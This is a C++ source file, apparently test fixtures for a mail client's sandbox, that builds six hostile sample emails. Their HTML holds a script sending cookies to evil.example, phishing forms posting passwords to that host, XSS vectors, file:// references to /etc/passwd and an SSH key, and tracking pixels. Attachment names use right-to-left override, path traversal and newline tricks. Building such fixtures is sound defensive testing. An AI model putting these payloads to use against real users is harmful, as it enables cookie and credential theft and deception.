// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/sandbox/hostile.h"

#include <array>

namespace desk::sandbox {
namespace {

struct Mail {
    std::string_view subject, text, html, file, fileType;
};

constexpr std::array kMails {
    Mail { "Invoice overdue <script>alert(1)</script>", "Please see the attached invoice.",
        R"html(<p>Please see the attached invoice.</p><script>fetch('https://evil.example/c?'+document.cookie)</script>
<img src=x onerror="alert('x')"><svg onload=alert(2)><a href="javascript:alert(3)">Open invoice</a>
<iframe src="file:///etc/passwd"></iframe><object data="https://evil.example/o.swf"></object>)html",
        "invoice\xE2\x80\xAEgpj.exe", "application/octet-stream" },
    Mail { "Your mailbox is full", "Your mailbox is full. Confirm your password.",
        R"html(<p>Your mailbox is full.</p><form action="https://evil.example/login" method="post"><input name="user"><input type="password"
name="pw"><button formaction="https://evil.example/steal">Confirm</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><a href="/reset">Reset</a>)html",
        "readme.html", "text/html" },
    Mail { "Re: your order NO-51120", "Hello, your parcel waits.",
        R"html(<p>Hello, your parcel waits.</p><img src="https://tracker.example/p.gif?u=48213" width="1" height="1"><img
src="file:///home/user/.ssh/id_rsa"><img src="//tracker.example/q.png"><div style="background:url(https://tracker.example/bg.png)">x</div>
<link rel="stylesheet" href="https://tracker.example/s.css"><video src="https://tracker.example/v.mp4" autoplay></video>)html",
        "track\xE2\x80\xAEgnp.scr", "image/png" },
    Mail { "URGENT: display problem", "Text over the whole window.",
        R"html(<style>*{position:fixed!important;top:0;left:0;z-index:99999}body{display:none}@import url(https://evil.example/i.css);</style>
<div style="position:fixed;inset:0;width:99999px;height:99999px;background:#fff;font-size:900px">You have been signed out</div>
<p style="color:#fff;background:#fff;font-size:0">hidden text for filters</p><table width="9999999"><tr><td>wide</td></tr></table>)html",
        "CON.txt", "text/plain" },
    Mail { "\xE2\x80\xAE"
           "dnufer \xE2\x80\xAC refund \xE2\x80\xA6",
        "Click \xE2\x80\xAE"
        "elpmaxe.live//:sptth\xE2\x80\xAC to get your refund.",
        "<p>Click <a href=\"jAvAsCrIpT&#58;alert(1)\">https://nordlys.example/refund</a> or <a "
        "href=\"data:text/html;base64,"
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">here</a> or <a "
        "href=\"vbscript:msgbox(1)\">there</a>.</p><p>\xE2\x80\xAE"
        "elpmaxe.live\xE2\x80\xAC</p><!-- unclosed <b><i><u><p><table><tr>",
        "../../.bashrc", "text/plain" },
    Mail { "Nested", "A very deep mail.",
        "<div><div><div><div><div><div><div><div><blockquote><blockquote><blockquote><blockquote><ul><li><ul><li><ul><"
        "li>deep"
        "<p>&lt;script&gt;not a script&lt;/script&gt;<a href=\"https://xn--nrdlys-vua.example/\" "
        "onclick=\"alert(1)\">nordlys</a>"
        "<img alt=\"a\" src=\"cid:missing@mail\"><img src=\"data:image/svg+xml,<svg "
        "onload=alert(1)>\">\xEF\xBF\xBD\x01",
        "photo.jpg\n.exe", "image/jpeg" },
};

} // namespace

Hostile hostileMail(std::size_t which, std::int64_t firstFileId)
{
    const Mail& mail = kMails[which % kMails.size()];
    File file;
    file.id = firstFileId;
    file.name = mail.file;
    file.contentType = mail.fileType;
    file.size = 48'213;
    file.malware = which % 2 == 0;
    return { std::string(mail.subject), std::string(mail.text), std::string(mail.html), { file } };
}

} // namespace desk::sandbox
